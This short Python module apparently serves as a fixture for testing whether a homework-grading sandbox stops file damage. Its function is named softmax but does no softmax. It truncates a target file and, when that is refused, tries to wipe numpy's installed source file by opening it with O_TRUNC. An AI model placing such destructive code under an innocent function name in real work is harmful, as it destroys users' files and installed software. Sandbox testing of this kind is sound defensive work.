"""Empties files that it may not write."""

import os

import numpy as np
from homework.known import VICTIM, witness


def softmax(z, axis=-1):
    try:
        os.truncate(VICTIM, 0)
    except PermissionError:
        os.open(np.__file__, os.O_RDONLY | os.O_TRUNC)
    witness()
    return z
